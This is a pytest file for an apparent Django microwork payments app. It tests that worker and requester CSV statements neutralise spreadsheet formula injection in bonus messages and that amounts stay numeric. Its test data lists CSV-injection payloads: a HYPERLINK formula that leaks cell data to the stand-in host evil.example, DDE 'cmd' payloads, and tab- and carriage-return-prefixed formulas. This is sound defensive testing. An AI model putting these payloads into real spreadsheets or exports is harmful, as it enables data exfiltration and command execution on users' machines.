"""A requester's words reach workers' and requesters' CSV statements: no cell of either may
run as a spreadsheet formula, while amounts stay numbers."""

import csv
import io

import pytest
from django.urls import reverse

from microwork.payments.tests.conftest import answer, go_live, make_project
from microwork.review import services as review_services

ATTACKS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click for your bonus")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def bonuses(rich_acme, rita, walt):
    project = make_project(rich_acme, rita)
    go_live(project, rita)
    answer(project, walt)
    for i, message in enumerate(ATTACKS):
        review_services.bonus_pay(
            organisation=rich_acme,
            actor=rita,
            workers=[walt],
            amount="0.10",
            message=message,
            request_key=f"bonus-{i}",
            project=project,
        )


@pytest.mark.parametrize(
    ("who", "url"),
    [("walt", "ledger:worker_statement"), ("rita", "payments:requester_statement")],
)
def test_statement_cells_never_start_a_formula(client, bonuses, request, who, url):
    # Rita wrote the bonus messages; both Walt's and her own statement carry them.
    client.force_login(request.getfixturevalue(who))
    rows = _rows(client.get(reverse(url)))
    descriptions = [row[3] for row in rows[1:]]
    for attack in ATTACKS:
        assert "'" + attack.strip() in descriptions  # the message is stored stripped
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), row
            if cell.startswith("-"):
                float(cell)  # a negative amount, still a number a spreadsheet adds up
    amounts = [row[6] for row in rows[1:]]
    assert any(a.startswith("-") for a in amounts) or who == "walt"
